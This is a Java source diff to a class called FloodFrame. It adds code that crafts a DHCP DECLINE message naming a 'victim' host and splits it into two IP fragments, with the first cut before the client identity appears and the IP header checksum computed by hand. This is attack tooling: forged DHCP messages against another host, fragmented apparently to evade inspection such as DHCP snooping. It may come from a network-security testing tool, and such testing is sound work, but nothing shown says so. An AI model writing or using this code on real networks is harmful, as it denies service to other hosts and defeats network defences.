@@ -12,6 +12,7 @@ final class FloodFrame {
     private static final String EVERYBODY = "ffffffffffff";
     private static final int BYTES = 300;
     private static final int UDP = 34;
+    private static final int FRAGMENT = 32;
     private static final int BOOTP = UDP + 8;
 
     private final byte[] bytes;
@@ -63,6 +64,30 @@ final class FloodFrame {
                                         plan.subnet().gateway().bits())),
                 BOOTP + 4,
                 4);
+    }
+
+    /** The same in two fragments, of which the first ends before it says who the client is. */
+    static List<byte[]> declineInFragments(NetworkPlan plan, NetworkPlan.Host own, NetworkPlan.Host victim) {
+        byte[] whole = decline(plan, own, victim).next(new Random(1));
+        return List.of(
+                fragment(whole, own, 0x2000, UDP, UDP + FRAGMENT),
+                fragment(whole, own, FRAGMENT / 8, UDP + FRAGMENT, BYTES));
+    }
+
+    private static byte[] fragment(byte[] whole, NetworkPlan.Host own, int flagsAndPlace, int from, int to) {
+        java.nio.ByteBuffer frame = java.nio.ByteBuffer.allocate(UDP + to - from)
+                .put(whole, 0, UDP)
+                .put(whole, from, to - from)
+                .putShort(16, (short) (UDP - 14 + to - from))
+                .putInt(18, 7 << 16 | flagsAndPlace)
+                .putShort(24, (short) 0)
+                .putInt(26, own.address().bits());
+        int sum = 0;
+        for (int i = 14; i < UDP; i += 2) {
+            sum += frame.getShort(i) & 0xffff;
+        }
+        sum = (sum & 0xffff) + (sum >> 16);
+        return frame.putShort(24, (short) ~((sum & 0xffff) + (sum >> 16))).array();
     }
 
     /** A message of DHCP (RFC 2131) to everybody. */
